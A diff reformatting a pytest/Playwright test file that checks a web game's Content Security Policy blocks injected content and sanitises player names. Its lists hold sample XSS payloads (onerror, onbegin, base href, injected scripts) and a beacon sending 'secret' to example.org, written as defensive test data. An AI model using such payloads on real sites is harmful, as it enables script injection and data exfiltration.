@@ -2,12 +2,13 @@
 
 import pytest
 from playwright.sync_api import Browser, Page, expect
+
 from test_page import CLICK_LIT, next_state, open_start, play_on
 
 NARROW = {"width": 320, "height": 640}
 
 # what an injected sentence might try; each is to be blocked, by the directive named
-ATTACKS = {                               # None: reported inside the frame
+ATTACKS = {  # None: reported inside the frame
     "img onerror": ("script-src-attr", "<img src='data:,' onerror='hacked = true'>"),
     "svg onbegin": ("script-src-attr", "<svg><set attributeName='x' onbegin='hacked = true'></set></svg>"),
     "style attribute": ("style-src-attr", "<p style='position: fixed'></p>"),
@@ -21,8 +22,14 @@ ATTACKS = {                               # None: reported inside the frame
     "base": ("base-uri", "<base href='https://example.org/'>"),
 }
 DEEDS = {
-    "script": ("script-src-elem", "document.head.append(Object.assign(document.createElement('script'), { textContent: 'hacked = true' }))"),
-    "foreign script": ("script-src-elem", "document.head.append(Object.assign(document.createElement('script'), { src: 'https://example.org/x.js' }))"),
+    "script": (
+        "script-src-elem",
+        "document.head.append(Object.assign(document.createElement('script'), { textContent: 'hacked = true' }))",
+    ),
+    "foreign script": (
+        "script-src-elem",
+        "document.head.append(Object.assign(document.createElement('script'), { src: 'https://example.org/x.js' }))",
+    ),
     "module in an address": ("script-src-elem", "import('data:text/javascript,hacked = true').catch(() => {})"),
     "foreign fetch": ("connect-src", "fetch('https://example.org/').catch(() => {})"),
     "beacon": ("connect-src", "navigator.sendBeacon('https://example.org/', 'secret')"),
@@ -49,7 +56,9 @@ VIOLATIONS = """async deed => {
 def test_nothing_injected_comes_to_life(browser: Browser, site: str):
     page = open_start(browser.new_context().new_page(), site)
     left = []
-    page.on("response", lambda answer: None if answer.url.startswith((site, "data:", "blob:")) else left.append(answer.url))
+    page.on(
+        "response", lambda answer: None if answer.url.startswith((site, "data:", "blob:")) else left.append(answer.url)
+    )
     for name, (directive, markup) in ATTACKS.items():
         assert [name, *page.evaluate(VIOLATIONS, {"markup": markup})] == [name, directive, False, True]
     for name, (directive, script) in DEEDS.items():
@@ -111,7 +120,7 @@ def test_hostile_names_are_short_plain_and_keep_to_themselves(page: Page, site: 
     assert page.evaluate(STICKS_OUT) == []
 
     page.evaluate(CALL, NAMES)
-    page.reload()                                                        # among my games
+    page.reload()  # among my games
     expect(page.locator(".resume")).to_contain_text(SHOWN[3])
     assert page.evaluate(STICKS_OUT) == []
     words = page.evaluate("document.documentElement.outerHTML")
@@ -124,10 +133,20 @@ NAMING = """async names => {
 }"""
 
 
-@pytest.mark.parametrize("name, shown", [
-    (None, ""), (7, ""), ({"toString": 1}, ""), ("  Ada \n\t Love ", "Ada Love"), ("\u200b\u00ad\ufeff", ""), ("👩‍🚀 Zoë", "👩‍🚀 Zoë"),
-    ("é́́́́́́", None), (HEBREW, f"\u2068{HEBREW}\u2069"),
-], ids=repr)
+@pytest.mark.parametrize(
+    "name, shown",
+    [
+        (None, ""),
+        (7, ""),
+        ({"toString": 1}, ""),
+        ("  Ada \n\t Love ", "Ada Love"),
+        ("\u200b\u00ad\ufeff", ""),
+        ("👩‍🚀 Zoë", "👩‍🚀 Zoë"),
+        ("é́́́́́́", None),
+        (HEBREW, f"\u2068{HEBREW}\u2069"),
+    ],
+    ids=repr,
+)
 def test_a_name_is_made_fit_to_be_shown(naming: Page, name, shown):
     [found] = naming.evaluate(NAMING, [name])
     assert len(found) <= 6 if shown is None else found == shown
